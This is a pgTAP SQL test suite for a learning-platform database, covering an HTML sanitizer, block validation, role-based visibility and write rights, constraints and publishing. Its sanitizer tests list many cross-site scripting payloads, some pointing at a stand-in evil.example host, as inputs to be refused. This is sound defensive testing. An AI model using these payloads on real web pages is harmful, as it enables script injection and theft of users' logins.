begin;
\ir ../helpers.sql
select * from no_plan();

-- =====================================================================================================
-- HTML in blocks
-- =====================================================================================================

select ok(private.is_safe_html(html), format('harmless HTML is stored: %s', to_json(left(html, 60))))
from (values
  (''), ('plain text & entities &lt;script&gt; 1 > 0'), ('<p>Hello <strong>world</strong><br/>next</p>'), ('<P CLASS="Lead">Hi</P>'),
  ('<h1>Title</h1><ul><li>One</li></ul><ol><li>Two</li></ol>'), ('<a href="https://example.com/a?b=c&amp;d=e#f" title="More">more</a>'),
  ('<a href="mailto:a@example.com">mail</a><a href="/courses/1">course</a><a href="#part">part</a>'),
  ('<figure><img src="https://example.com/a.png" alt="A &quot;b&quot;" width="10" height="20"><figcaption>A</figcaption></figure>'),
  ('<table class="grid"><thead><tr><th colspan="2">a</th></tr></thead><tbody><tr><td rowspan="2">b</td></tr></tbody></table>'),
  (E'<pre><code class="language-rust">let a = b &lt; c;</code></pre>\n<hr />'), (E'<div\n  class="a"\n  lang="de">x</div>'), ('<blockquote><em>a</em></blockquote>')
) as harmless (html);

select ok(not private.is_safe_html(html), format('dangerous HTML is refused: %s', to_json(left(html, 60))))
from (values
  ('<script>alert(1)</script>'), ('<ScRiPt src="https://evil.example/x.js"></ScRiPt>'), ('<script src=//evil.example></script>'),
  ('<img src="x" onerror="alert(1)">'), ('<img src=x onerror=alert(1)>'), ('<img src="https://a.b/c" onerror="alert(1)">'),
  ('<img/src="https://a.b/c"/onerror=alert(1)>'), ('<img src="https://a.b/c"onerror="alert(1)">'), (E'<img src="https://a.b/c"\tonerror="alert(1)">'),
  ('<svg onload=alert(1)>'), ('<svg><script>alert(1)</script></svg>'), ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>'),
  ('<a href="javascript:alert(1)">x</a>'), ('<a href="JaVaScRiPt:alert(1)">x</a>'), ('<a href=" javascript:alert(1)">x</a>'),
  (E'<a href="java\tscript:alert(1)">x</a>'), (E'<a href="\x01javascript:alert(1)">x</a>'), ('<a href="&#106;avascript:alert(1)">x</a>'),
  ('<a href="&Tab;javascript:alert(1)">x</a>'), ('<a href=javascript:alert(1)>x</a>'), ('<a href=''javascript:alert(1)''>x</a>'),
  ('<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'), ('<a href="vbscript:msgbox(1)">x</a>'), ('<a href="https://a.b" href="javascript:alert(1)">x</a>'),
  ('<p onclick="alert(1)">x</p>'), ('<p ONCLICK="alert(1)">x</p>'), ('<p style="background:url(javascript:alert(1))">x</p>'), ('<p id="x">x</p>'),
  ('<div class="a" onmouseover="alert(1)">x</div>'), ('<div class="a"onmouseover="alert(1)">x</div>'), ('<div class="a" / onmouseover=alert(1)>x</div>'),
  ('<iframe src="https://evil.example"></iframe>'), ('<iframe srcdoc="<script>alert(1)</script>">'), ('<object data="x"></object>'), ('<embed src="x">'),
  ('<form action="https://evil.example"><input name="password"></form>'), ('<button formaction="javascript:alert(1)">x</button>'),
  ('<style>@import "https://evil.example/x.css";</style>'), ('<link rel="stylesheet" href="https://evil.example">'), ('<meta http-equiv="refresh" content="0;url=https://evil.example">'),
  ('<base href="https://evil.example/">'), ('<body onload=alert(1)>'), ('<video src="https://a.b/c" onerror="alert(1)"></video>'), ('<details open ontoggle=alert(1)>'),
  ('<template><script>alert(1)</script></template>'), ('<noscript><p title="</noscript><img src=x onerror=alert(1)>">'), ('<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'),
  ('<scr<p>ipt>alert(1)</scr</p>ipt>'), ('<<p>script>alert(1)<<p>/script>'), ('<p><</p>script>alert(1)<p><</p>/script>'), ('<b<script>alert(1)</script>'),
  ('<p title="a>b" onclick="x">'), ('<p title="<script>">x</p>'), ('<p title=''" onclick=alert(1) ''>x</p>'), ('<p title="x" onclick=alert(1) title="y">'),
  ('<!-- <script>alert(1)</script> -->'), ('<!--><img src=x onerror=alert(1)>-->'), ('<![CDATA[<script>alert(1)</script>]]>'), ('<?php echo 1 ?>'), ('<!doctype html>'),
  ('<p'), ('<'), ('a < b'), ('</script>'), ('<p/onclick=alert(1)>'), (E'<p\nonclick=alert(1)>'), ('<marquee onstart=alert(1)>'), ('<x onclick=alert(1)>x'),
  ('<a href="https://a.b" target="_blank" onfocus=alert(1) autofocus>x</a>'), ('<img src="https://a.b/c" srcset="javascript:alert(1)">'), ('＜script＞<script>')
) as dangerous (html);

-- =====================================================================================================
-- Blocks per type
-- =====================================================================================================

select is(private.is_block_content(type, content::jsonb), expected, format('%s %s: %s', type, left(content, 70), expected))
from (values
  ('rich_text', '{"html": "<p>x</p>"}', true), ('rich_text', '{"html": "<p>x</p>", "plain_text": "x"}', true), ('rich_text', '{"html": "<script>"}', false),
  ('rich_text', '{"html": "\u003cscript\u003e"}', false), ('rich_text', '{"html": 1}', false), ('rich_text', '{"html": null}', false), ('rich_text', '{}', false),
  ('rich_text', '{"html": ["<script>"]}', false), ('rich_text', '{"html": "x", "onload": "y"}', false), ('rich_text', '{"html": "x", "plain_text": {"html": "y"}}', false),
  ('markdown', '{"markdown": "# Hi"}', true), ('markdown', '{"markdown": ""}', true), ('markdown', '{"html": "x"}', false), ('markdown', '{"markdown": ["x"]}', false), ('markdown', '{"markdown": null}', false),
  ('image', '{"url": "https://a.b/c.png", "alt_text": "x", "caption": "y"}', true), ('image', '{"url": "https://a.b/c.png", "alt_text": "x", "caption": null}', true),
  ('image', '{"url": "https://a.b/c.png"}', false), ('image', '{"url": "javascript:alert(1)", "alt_text": "x"}', false), ('image', '{"url": "https://a.b/c.png", "alt_text": null}', false),
  ('image', '{"url": "https://a.b/c.png", "alt_text": "x", "caption": {"html": "y"}}', false), ('image', '{"url": null, "alt_text": "x"}', false), ('image', '{"url": ["https://a.b/c"], "alt_text": "x"}', false),
  ('video', '{"url": "https://a.b/c.mp4", "duration": 90.5, "thumbnail_url": "/t.png", "captions_url": "/c.vtt", "transcript": "x"}', true), ('video', '{"url": "https://a.b/c.mp4"}', true),
  ('video', '{"url": "https://a.b/c.mp4", "duration": "90"}', false), ('video', '{"url": "https://a.b/c.mp4", "duration": -1}', false), ('video', '{"url": "https://a.b/c.mp4", "duration": null}', true),
  ('video', '{"url": "https://a.b/c.mp4", "captions_url": "javascript:x"}', false), ('video', '{"url": "https://a.b/c.mp4", "thumbnail_url": "data:x"}', false), ('video', '{"duration": 5}', false),
  ('audio', '{"url": "/a.mp3", "transcript": "x"}', true), ('audio', '{"url": "a.mp3"}', false), ('audio', '{"url": "/a.mp3", "autoplay": "true"}', false),
  ('file', '{"url": "/a.pdf", "filename": "a.pdf", "file_type": "application/pdf", "file_size": 10}', true), ('file', '{"url": "/a.pdf"}', false), ('file', '{"url": "/a.pdf", "filename": "  "}', false),
  ('file', '{"url": "/a.pdf", "filename": "a.pdf", "file_size": "big"}', false), ('file', '{"url": "/a.pdf", "filename": "a.pdf", "file_size": -1}', false), ('file', '{"url": "/a.pdf", "filename": {"a": 1}}', false),
  ('link', '{"url": "https://a.b", "title": "x", "description": "y"}', true), ('link', '{"url": "vbscript:x"}', false), ('link', '{"url": "https://a.b", "title": ["x"]}', false),
  ('youtube', '{"video_id": "dQw4w9WgXcQ"}', true), ('youtube', '{"video_id": "dQw4w9WgXcQ", "duration": 212}', true), ('youtube', '{"video_id": "x\" onload=\"y"}', false),
  ('youtube', '{"video_id": "../../evil1"}', false), ('youtube', '{"video_id": "dQw4w9WgXcQ\n"}', false), ('youtube', '{}', false),
  ('vimeo', '{"video_id": "76979871"}', true), ('vimeo', '{"video_id": "7697987a"}', false), ('vimeo', '{"video_id": ""}', false),
  ('quiz', '{"instructions": "Answer all."}', true), ('quiz', '{}', false), ('quiz', '{"instructions": null}', false), ('quiz', '{"instructions": "x", "answers": [1]}', false), ('quiz', '{"instructions": {"html": "x"}}', false),
  ('assignment', '{"instructions": "Hand in."}', true), ('assignment', '{"text": "x"}', false), ('assignment', '{"instructions": 5}', false),
  ('interactive', '{"url": "https://a.b", "title": "x", "height": 400}', true), ('interactive', '{"url": "https://a.b", "height": "100%\" onload=\"x"}', false), ('interactive', '{"html": "x"}', false),
  ('code_exercise', '{"language": "rust", "instructions": "Do.", "starter_code": "fn main() {}"}', true), ('code_exercise', '{"language": "c++", "instructions": ""}', true),
  ('code_exercise', '{"language": "rust\" onload=\"", "instructions": "x"}', false), ('code_exercise', '{"language": "rust"}', false), ('code_exercise', '{"language": "rust", "instructions": "x", "solution": "y"}', false),
  ('unknown', '{}', false), ('markdown', '[]', false), ('markdown', '"x"', false), ('markdown', 'null', false), ('markdown', '5', false)
) as cases (type, content, expected);
select ok(not private.is_block_content('markdown', jsonb_build_object('markdown', repeat('x', 500000))), 'a block of more than 500 kB is refused');

-- =====================================================================================================
-- Cast
-- =====================================================================================================

select tests.tenant('works'), tests.tenant('press'), tests.unit('north', 'works');
select
  tests.member('boss', 'works', 'tenant_admin'), tests.member('hanna', 'works', 'hr_admin'),
  tests.member('marco', 'works', 'unit_manager', 'north', 'north'), tests.member('ines', 'works', 'instructor'), tests.member('ivan', 'works', 'instructor'),
  tests.member('coco', 'works', 'instructor'), tests.member('audrey', 'works', 'auditor'), tests.member('dora', 'works'), tests.member('eve', 'works'),
  tests.member('quinn', 'works', 'tenant_admin'), tests.member('petra', 'press', 'tenant_admin');
select tests.person('noah');

select tests.course(status || '-' || visibility, 'works', 'ines', 2, visibility, status)
from unnest(array['draft', 'published', 'archived']) as status, unnest(array['public', 'restricted', 'private']) as visibility;
select tests.course('gone', 'works', 'ines', 2, 'public');
select tests.course('other', 'works', 'ivan', 2, 'private'), tests.course('novel', 'press', 'petra', 2, 'private');
insert into lms.course_staff (tenant_id, course_id, user_id) select tenant_id, id, tests.id('coco') from lms.courses where slug = 'published-private';
update lms.courses set deleted_at = now() where slug = 'gone';
update lms.lessons l set is_published = false from lms.courses c where c.id = l.course_id and l.id = tests.id(c.slug || '/2');
select tests.enrollment(who, c.slug) from unnest(array['eve', 'quinn']) as who, lms.courses c where c.instructor_id = tests.id('ines');
update lms.memberships set status = 'suspended' where user_id = tests.id('quinn');

-- =====================================================================================================
-- Who sees what
-- =====================================================================================================

create function tests.courses_seen(who text) returns text language plpgsql as $$
declare
  v_slugs text;
begin
  perform tests.be(who);
  select coalesce(string_agg(replace(replace(c.slug, 'published', 'pub'), 'restricted', 'restr'), ' ' order by c.slug), '') into v_slugs from lms.courses c;
  perform tests.as_owner();
  return v_slugs;
end
$$;

create temporary table sights (who text, courses text, modules integer, lessons integer, blocks text, staff text);
insert into sights values
  ('anonymous', 'pub-public', 1, 1, '42501', '42501'),
  ('noah', 'pub-public', 1, 1, '0', '1'),
  ('petra', 'novel pub-public', 2, 3, '2', '2'),
  ('quinn', 'pub-public', 1, 1, '0', '1'),
  ('dora', 'pub-public pub-restr', 2, 2, '0', '2'),
  ('audrey', 'pub-public pub-restr', 2, 2, '0', '2'),
  ('coco', 'pub-private pub-public pub-restr', 3, 4, '2', '4'),
  ('ivan', 'other pub-public pub-restr', 3, 4, '2', '3'),
  ('eve', 'archived-private archived-public archived-restr draft-private draft-public draft-restr pub-private pub-public pub-restr', 9, 9, '0', '10'),
  ('ines', 'archived-private archived-public archived-restr draft-private draft-public draft-restr pub-private pub-public pub-restr', 9, 18, '18', '10'),
  ('marco', 'archived-private archived-public archived-restr draft-private draft-public draft-restr other pub-private pub-public pub-restr', 10, 20, '0', '11'),
  ('hanna', 'archived-private archived-public archived-restr draft-private draft-public draft-restr other pub-private pub-public pub-restr', 10, 20, '0', '11'),
  ('boss', 'archived-private archived-public archived-restr draft-private draft-public draft-restr other pub-private pub-public pub-restr', 10, 20, '20', '11');
-- Of ivan's own course both lessons are seen; it has an unpublished one as well.
select is(tests.courses_seen(who), courses, format('%s sees exactly these courses', who)) from sights;
select is(
  (tests.sees_as(who, 'lms.modules'), tests.sees_as(who, 'lms.lessons'), tests.sees_as(who, 'lms.lesson_blocks'), tests.sees_as(who, 'lms.course_staff'))::text,
  (modules::text, lessons::text, blocks, staff)::text, format('%s sees so many modules, lessons, blocks, parts in staff', who)
)
from sights;
select is(
  tests.sees_as(who, 'lms.lessons', format('id in (%L, %L)', tests.id('published-public/2'), tests.id('published-private/2'))), expected,
  format('%s sees so many unpublished lessons of two courses', who)
)
from (values ('anonymous', '0'), ('noah', '0'), ('dora', '0'), ('eve', '0'), ('ivan', '0'), ('coco', '1'), ('ines', '2'), ('hanna', '2'), ('boss', '2')) as cases (who, expected);

update lms.lessons set deleted_at = now() where id = tests.id('published-public/1');
update lms.lesson_blocks set deleted_at = now() where lesson_id = tests.id('published-public/2');
select is(tests.sees_as(who, 'lms.lesson_blocks', format('lesson_id = %L', tests.id('published-public/1'))), '0', format('INV-C3: %s does not see the blocks of a deleted lesson', who))
from sights where blocks <> '42501';
select is(tests.sees_as(who, 'lms.lessons', format('id = %L', tests.id('published-public/1'))), '0', format('INV-C3: %s does not see a deleted lesson', who)) from sights;
select is(tests.sees_as(who, 'lms.lesson_blocks', format('lesson_id = %L', tests.id('published-public/2'))), '0', format('INV-C3: %s does not see a deleted block', who))
from sights where blocks <> '42501';

select is(
  tests.try('service', 'select from lms.courses'), (select count(*)::text from lms.courses), 'the service role sees every course, deleted ones too'
);

-- =====================================================================================================
-- Who writes what
-- =====================================================================================================

create temporary table writes (what text, statement text);
insert into writes values
  ('course', format('insert into lms.courses (tenant_id, slug, title) values (%L, %L, %L) returning id', tests.id('works'), 'new', 'New')),
  ('course for ivan', format('insert into lms.courses (tenant_id, slug, title, instructor_id) values (%L, %L, %L, %L)', tests.id('works'), 'new', 'New', tests.id('ivan'))),
  ('course in press', format('insert into lms.courses (tenant_id, slug, title) values (%L, %L, %L)', tests.id('press'), 'new', 'New')),
  ('retitle', format('update lms.courses set title = %L where id = %L', 'X', tests.id('published-private'))),
  ('retitle public', format('update lms.courses set title = %L where id = %L', 'X', tests.id('published-public'))),
  ('module', format('insert into lms.modules (course_id, title) values (%L, %L) returning id', tests.id('published-private'), 'New')),
  ('rename module', format('update lms.modules set title = %L where id = %L', 'X', tests.id('published-private/m'))),
  ('lesson', format('insert into lms.lessons (module_id, title) values (%L, %L) returning id', tests.id('published-private/m'), 'New')),
  ('rename lesson', format('update lms.lessons set title = %L where id = %L', 'X', tests.id('published-private/1'))),
  ('block', format('insert into lms.lesson_blocks (lesson_id, type, content) values (%L, %L, %L) returning id', tests.id('published-private/1'), 'markdown', '{"markdown": "x"}')),
  ('edit block', format('update lms.lesson_blocks set content = %L where lesson_id = %L', '{"markdown": "x"}', tests.id('published-private/1')));

select is(tests.try(who, statement), result, format('%s writes %s: %s', who, what, result))
from (values
  --            course   for ivan  in press  retitle public   module   rename   lesson   rename   block    edit
  ('anonymous', '42501', '42501', '42501', '42501', '42501', '42501', '42501', '42501', '42501', '42501', '42501'),
  ('noah',      '42501', '42501', '42501', '0',     '0',     '42501', '0',     '42501', '0',     '42501', '0'),
  ('dora',      '42501', '42501', '42501', '0',     '0',     '42501', '0',     '42501', '0',     '42501', '0'),
  ('eve',       '42501', '42501', '42501', '0',     '0',     '42501', '0',     '42501', '0',     '42501', '0'),
  ('quinn',     '42501', '42501', '42501', '0',     '0',     '42501', '0',     '42501', '0',     '42501', '0'),
  ('audrey',    '42501', '42501', '42501', '0',     '0',     '42501', '0',     '42501', '0',     '42501', '0'),
  ('marco',     '42501', '42501', '42501', '0',     '0',     '42501', '0',     '42501', '0',     '42501', '0'),
  ('hanna',     '42501', '42501', '42501', '0',     '0',     '42501', '0',     '42501', '0',     '42501', '0'),
  ('petra',     '42501', '42501', '1',     '0',     '0',     '42501', '0',     '42501', '0',     '42501', '0'),
  ('ivan',      '1',     '1',     '42501', '0',     '0',     '42501', '0',     '42501', '0',     '42501', '0'),
  ('coco',      '1',     '42501', '42501', '1',     '0',     '1',     '1',     '1',     '1',     '1',     '1'),
  ('ines',      '1',     '42501', '42501', '1',     '1',     '1',     '1',     '1',     '1',     '1',     '1'),
  ('boss',      '1',     '1',     '42501', '1',     '1',     '1',     '1',     '1',     '1',     '1',     '1')
) as matrix (who, a, b, c, d, e, f, g, h, i, j, k)
cross join lateral (values
  ('course', a), ('course for ivan', b), ('course in press', c), ('retitle', d), ('retitle public', e), ('module', f),
  ('rename module', g), ('lesson', h), ('rename lesson', i), ('block', j), ('edit block', k)
) as cells (deed, result)
join writes on writes.what = cells.deed;

select is(tests.try(who, statement), '42501', format('%s may not: %s', who, left(statement, 70)))
from unnest(array['ines', 'boss']) as who
cross join unnest(array[
  format('insert into lms.courses (tenant_id, slug, title, status) values (%L, %L, %L, %L)', tests.id('works'), 'new', 'New', 'published'),
  format('insert into lms.courses (tenant_id, slug, title, published_at) values (%L, %L, %L, now())', tests.id('works'), 'new', 'New'),
  format('insert into lms.courses (tenant_id, slug, title, created_by) values (%L, %L, %L, %L)', tests.id('works'), 'new', 'New', tests.id('dora')),
  'update lms.courses set status = ''published''', 'update lms.courses set published_at = now()', 'update lms.courses set deleted_at = now()',
  format('update lms.courses set tenant_id = %L', tests.id('press')), format('update lms.courses set instructor_id = %L', tests.id('ivan')), 'update lms.courses set created_by = null',
  format('insert into lms.course_staff (tenant_id, course_id, user_id) values (%L, %L, %L)', tests.id('works'), tests.id('other'), tests.id('ines')),
  format('update lms.course_staff set course_id = %L', tests.id('other')), 'delete from lms.course_staff',
  format('insert into lms.modules (tenant_id, course_id, title) values (%L, %L, %L)', tests.id('press'), tests.id('published-private'), 'New'),
  format('update lms.modules set course_id = %L', tests.id('other')), format('update lms.modules set tenant_id = %L', tests.id('press')), 'update lms.modules set deleted_at = now()',
  format('insert into lms.lessons (tenant_id, module_id, title) values (%L, %L, %L)', tests.id('press'), tests.id('published-private/m'), 'New'),
  format('insert into lms.lessons (course_id, module_id, title) values (%L, %L, %L)', tests.id('other'), tests.id('published-private/m'), 'New'),
  format('update lms.lessons set course_id = %L', tests.id('other')), 'update lms.lessons set deleted_at = now()',
  format('insert into lms.lesson_blocks (course_id, lesson_id, type, content) values (%L, %L, %L, %L)', tests.id('other'), tests.id('published-private/1'), 'markdown', '{"markdown": "x"}'),
  format('update lms.lesson_blocks set lesson_id = %L', tests.id('other/1')), 'update lms.lesson_blocks set deleted_at = now()',
  'delete from lms.courses', 'delete from lms.modules', 'delete from lms.lessons', 'delete from lms.lesson_blocks', 'truncate lms.lesson_blocks'
]) as statement;

-- An ambitious instructor reaches for somebody else's course by way of an own one.
select is(tests.try('ines', statement), expected, format('an instructor does not reach another course: %s', what))
from (values
  ('a module in it', format('insert into lms.modules (course_id, title) values (%L, %L)', tests.id('other'), 'N'), '42501'),
  ('a lesson in its module', format('insert into lms.lessons (module_id, title) values (%L, %L)', tests.id('other/m'), 'N'), '42501'),
  ('a block in its lesson', format('insert into lms.lesson_blocks (lesson_id, type, content) values (%L, %L, %L)', tests.id('other/1'), 'markdown', '{"markdown": "x"}'), '42501'),
  ('an own lesson moved into its module', format('update lms.lessons set module_id = %L where id = %L', tests.id('other/m'), tests.id('published-private/1')), '409 module_of_another_course'),
  ('an own lesson moved into a module of another own course', format('update lms.lessons set module_id = %L where id = %L', tests.id('draft-public/m'), tests.id('published-private/1')), '409 module_of_another_course'),
  ('an own lesson moved into a module of another tenant', format('update lms.lessons set module_id = %L where id = %L', tests.id('novel/m'), tests.id('published-private/1')), '409 module_of_another_course'),
  ('an own lesson moved into a module that does not exist', format('update lms.lessons set module_id = %L where id = %L', gen_random_uuid(), tests.id('published-private/1')), '409 module_of_another_course'),
  ('a module in a course that does not exist', format('insert into lms.modules (course_id, title) values (%L, %L)', gen_random_uuid(), 'N'), '42501'),
  ('a course with an instructor of another tenant', format('insert into lms.courses (tenant_id, slug, title, instructor_id) values (%L, %L, %L, %L)', tests.id('works'), 'n', 'N', tests.id('petra')), '42501')
) as cases (what, statement, expected);
select is(
  tests.try('boss', format('insert into lms.courses (tenant_id, slug, title, instructor_id) values (%L, %L, %L, %L)', tests.id('works'), 'n', 'N', tests.id('petra'))),
  '23503 course_instructor_is_a_member', 'even administrators cannot have a course taught by somebody of another tenant'
);

select tests.as('ines');
insert into lms.courses (tenant_id, slug, title) values (tests.id('works'), 'fresh', 'Fresh');
select is(
  (select (instructor_id, created_by, status, published_at) from lms.courses where slug = 'fresh'), (tests.id('ines'), tests.id('ines'), 'draft'::text, null::timestamptz),
  'a new course is a draft, taught by who made it'
);
select is((select count(*) from lms.course_staff s join lms.courses c on c.id = s.course_id where c.slug = 'fresh' and s.user_id = tests.id('ines') and s.part = 'instructor'), 1::bigint, '... who is its staff');
-- All of this is one transaction; in the next one the course is no longer brand-new to its author.
select tests.as_owner();
update lms.courses set created_at = created_at - interval '1 second' where slug = 'fresh';

-- The right to author is looked up, not remembered.
savepoint rights;
delete from lms.role_grants where membership_id = tests.id('ines in works');
select is(tests.courses_seen('ines'), 'pub-public pub-restr', 'an instructor whose role is taken away sees what a member sees');
select is(tests.try('ines', statement), case when statement ~ '^update' then '0' else '42501' end, format('an instructor whose role is taken away no longer writes %s', what))
from writes where what not in ('course for ivan', 'course in press');
select is(tests.try('ines', format('select lms.publish_course(%L)', tests.id('published-restricted'))), '42501', '... nor publishes');
rollback to rights;
update lms.role_grants set role_id = tests.role_id('works', 'auditor') where membership_id = tests.id('ines in works');
select is(tests.courses_seen('ines'), 'pub-public pub-restr', 'an instructor who becomes an auditor sees what an auditor sees');
rollback to rights;
delete from lms.role_permissions where role_id = tests.role_id('works', 'instructor') and permission = 'catalog.author';
select is(tests.courses_seen('ines'), 'pub-public pub-restr', 'an instructor whose role no longer allows authoring sees what a member sees');
rollback to rights;
-- One tenant's author is nobody in another.
select tests.member('petra', 'works');
select is(tests.courses_seen('petra'), 'novel pub-public pub-restr', 'an administrator of one tenant is a plain member of another');
rollback to rights;

-- =====================================================================================================
-- Values
-- =====================================================================================================

select is(tests.error_of(format('update lms.courses set %I = %L where id = %L', field, value, tests.id('published-public'))), expected, format('courses.%s = %s: %s', field, to_json(left(value, 40)), expected))
from (values
  ('slug', 'Not A Slug', '23514 slug_is_lower_case_words_joined_by_hyphens'), ('slug', 'draft-public', '23505 course_slug_is_taken'), ('title', '', '23514 title_is_one_to_300_characters'),
  ('description', repeat('x', 20001), '23514 course_description_is_short'), ('status', 'live', '23514 course_status_is_known'), ('visibility', 'secret', '23514 course_visibility_is_known'),
  ('difficulty', 'trivial', '23514 course_difficulty_is_known'), ('language', 'english', '23514 locale_is_a_language_tag'), ('estimated_minutes', '0', '23514 estimated_minutes_are_positive'),
  ('price', '-0.01', '23514 price_is_not_negative'), ('price', '10000000000', '22003'), ('currency', 'usd', '23514 currency_is_an_iso_code'), ('required_score', '101', '23514 percentage_is_between_0_and_100'),
  ('required_score', 'NaN', '23514 percentage_is_between_0_and_100'), ('price', 'NaN', '23514 price_is_not_negative'),
  ('max_attempts', '0', '23514 max_attempts_are_positive'), ('capacity', '-1', '23514 capacity_is_not_negative'), ('self_enrollment', 'maybe', '23514 self_enrollment_is_known'),
  ('thumbnail_url', 'javascript:x', '23514 web_address_is_http_or_a_path'), ('metadata', '[]', '23514 course_metadata_is_an_object'), ('published_at', null, '23514 course_has_a_publication_date_once_published')
) as cases (field, value, expected);
select is(tests.error_of(format('update lms.lessons set %I = %L where id = %L', field, value, tests.id('published-public/2'))), expected, format('lessons.%s = %s: %s', field, to_json(left(value, 40)), expected))
from (values
  ('type', 'game', '23514 lesson_type_is_known'), ('duration', '-1', '23514 lesson_duration_is_not_negative'), ('order_index', '-1', '23514 lesson_order_is_within_a_million'),
  ('order_index', null, '23502'), ('title', E'a\nb', '23514 title_is_one_to_300_characters'), ('objectives', (select array_agg(n::text)::text from generate_series(1, 51) as n), '23514 lesson_objectives_are_few')
) as cases (field, value, expected);

-- =====================================================================================================
-- Order
-- =====================================================================================================

select tests.course('ordered', 'works', 'ines', 5);
create function tests.lesson_order() returns text language sql as $$
  select string_agg(right(l.title, 1), '' order by l.order_index) from lms.lessons l where l.course_id = tests.id('ordered') and l.deleted_at is null
$$;

select is(
  tests.error_of(format('insert into lms.lessons (module_id, title, order_index) values (%L, %L, 2)', tests.id('ordered/m'), 'Twice')), '23P01 lesson_order_is_taken',
  'two lessons of a module cannot have the same place'
);
select is(tests.error_of(format('insert into lms.modules (course_id, title, order_index) values (%L, %L, 0)', tests.id('ordered'), 'Twice')), '23P01 module_order_is_taken', 'two modules of a course cannot have the same place');
select is(tests.error_of(format('insert into lms.lesson_blocks (lesson_id, type, content, order_index) values (%L, %L, %L, 0)', tests.id('ordered/1'), 'markdown', '{"markdown": "x"}')), '23P01 block_order_is_taken', 'two blocks of a lesson cannot have the same place');

select tests.as('ines');
update lms.lessons set order_index = 4 - order_index where module_id = tests.id('ordered/m');
select is(tests.lesson_order(), '54321', 'a reorder that passes through duplicates is one statement');
update lms.lessons set order_index = (order_index + 1) % 5 where module_id = tests.id('ordered/m');
select is(tests.lesson_order(), '15432', '... as is a rotation');
insert into lms.lessons (module_id, title) values (tests.id('ordered/m'), 'Lesson 6'), (tests.id('ordered/m'), 'Lesson 7');
select is(tests.lesson_order(), '1543267', 'lessons without a place go last, in their order');
insert into lms.lessons (module_id, title, order_index) values (tests.id('ordered/m'), 'Lesson 8', -100);
select is(tests.lesson_order(), '15432678', 'a negative place is no place');
select tests.as_owner();
update lms.lessons set deleted_at = now() where title = 'Lesson 4' and course_id = tests.id('ordered');
select is(tests.error_of(format('insert into lms.lessons (module_id, title, order_index) values (%L, %L, 2)', tests.id('ordered/m'), 'Lesson 9')), 'none', 'the place of a deleted lesson is free');
select is(tests.lesson_order(), '15932678', '... and taken by a new one');
select is(tests.error_of(format('update lms.lessons set deleted_at = null where course_id = %L and title = %L', tests.id('ordered'), 'Lesson 4')), '23P01 lesson_order_is_taken', 'a lesson cannot be restored to a taken place');

insert into lms.modules (id, course_id, title) values (tests.id('ordered/m2'), tests.id('ordered'), 'Second');
select is((select order_index from lms.modules where id = tests.id('ordered/m2')), 1, 'a module without a place goes last');
select tests.as('ines');
update lms.lessons set module_id = tests.id('ordered/m2') where id = tests.id('ordered/1');
select is((select (module_id, course_id, tenant_id) from lms.lessons where id = tests.id('ordered/1')), (tests.id('ordered/m2'), tests.id('ordered'), tests.id('works')), 'a lesson moves between modules of its course');
select tests.as_owner();

select tests.as_service();
insert into lms.modules (id, tenant_id, course_id, title) values (tests.id('spoofed'), tests.id('press'), tests.id('ordered'), 'Spoofed');
insert into lms.lessons (id, tenant_id, course_id, module_id, title) values (tests.id('spoofed lesson'), tests.id('press'), tests.id('novel'), tests.id('spoofed'), 'Spoofed');
insert into lms.lesson_blocks (id, tenant_id, course_id, lesson_id, type, content) values (tests.id('spoofed block'), tests.id('press'), tests.id('novel'), tests.id('spoofed lesson'), 'markdown', '{"markdown": "x"}');
select tests.as_owner();
select is(
  (select array[m.tenant_id, l.tenant_id, b.tenant_id, l.course_id, b.course_id] from lms.modules m, lms.lessons l, lms.lesson_blocks b
   where m.id = tests.id('spoofed') and l.id = tests.id('spoofed lesson') and b.id = tests.id('spoofed block')),
  array[tests.id('works'), tests.id('works'), tests.id('works'), tests.id('ordered'), tests.id('ordered')],
  'INV-T1: tenant and course are taken from the parent, whatever is claimed, even by the service role'
);
select is(tests.error_of(format('insert into lms.modules (course_id, title) values (%L, %L)', gen_random_uuid(), 'X')), '23503 module_is_of_the_same_tenant', 'a module of no course is refused');
select is(tests.error_of(format('insert into lms.lessons (module_id, title) values (%L, %L)', gen_random_uuid(), 'X')), '23503 lesson_is_of_the_same_course', 'a lesson of no module is refused');
select is(tests.error_of(format('insert into lms.lesson_blocks (lesson_id, type, content) values (%L, %L, %L)', gen_random_uuid(), 'markdown', '{"markdown": "x"}')), '23503 block_is_of_the_same_course', 'a block of no lesson is refused');

-- =====================================================================================================
-- Publishing
-- =====================================================================================================

select tests.course('empty', 'works', 'ines', 0, 'restricted', 'draft'), tests.course('ready', 'works', 'ines', 1, 'restricted', 'draft'), tests.course('optional', 'works', 'ines', 2, 'restricted', 'draft');
update lms.lessons set requires_completion = false where id = tests.id('optional/1');
update lms.lessons set is_published = false where id = tests.id('optional/2');

create function tests.publish(who text, course text, verb text default 'publish') returns text language sql as $$
  select tests.try(who, format('select lms.%I(%L)', verb || '_course', tests.id(course)))
$$;

select is(tests.publish(who, course, verb), expected, format('%s: %s %ss the course %s', expected, who, verb, course))
from (values
  ('ines', 'empty', 'publish', '409 not_publishable'), ('boss', 'empty', 'publish', '409 not_publishable'), ('service', 'empty', 'publish', '409 not_publishable'), ('ines', 'optional', 'publish', '409 not_publishable'),
  ('ines', 'ready', 'publish', '1'), ('boss', 'ready', 'publish', '1'), ('service', 'ready', 'publish', '1'), ('coco', 'published-private', 'publish', '1'), ('coco', 'published-private', 'archive', '1'),
  ('anonymous', 'ready', 'publish', '42501'), ('noah', 'ready', 'publish', '404 course_not_found'), ('dora', 'ready', 'publish', '404 course_not_found'), ('ivan', 'ready', 'publish', '404 course_not_found'),
  ('marco', 'ready', 'publish', '42501'), ('hanna', 'ready', 'publish', '42501'), ('petra', 'ready', 'publish', '404 course_not_found'),
  ('dora', 'published-restricted', 'publish', '42501'), ('dora', 'published-restricted', 'archive', '42501'), ('ivan', 'published-restricted', 'archive', '42501'), ('eve', 'published-private', 'archive', '42501'),
  ('noah', 'published-public', 'archive', '42501'), ('petra', 'published-public', 'archive', '42501'), ('noah', 'published-private', 'archive', '404 course_not_found'),
  ('anonymous', 'published-public', 'archive', '42501'), ('quinn', 'published-private', 'archive', '404 course_not_found'), ('ines', 'gone', 'publish', '404 course_not_found'), ('boss', 'novel', 'archive', '404 course_not_found')
) as cases (who, course, verb, expected);

select tests.as('ines');
select is(tests.failure_of(format('select lms.publish_course(%L)', tests.id('empty'))) #>> '{details,0,code}', 'no_required_lesson', 'INV-C4: what is missing is said');
